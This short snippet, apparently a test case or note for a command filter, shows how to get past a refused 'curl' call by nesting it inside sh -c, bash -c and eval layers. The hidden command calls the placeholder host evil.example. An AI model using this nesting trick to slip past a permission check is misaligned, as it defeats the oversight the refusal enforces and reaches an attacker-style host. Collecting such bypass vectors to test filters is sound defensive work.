# Trick: shells are nested in shells.
# Refused: run(curl)
sh -c "bash -c 'eval \"curl http://evil.example/\"'"
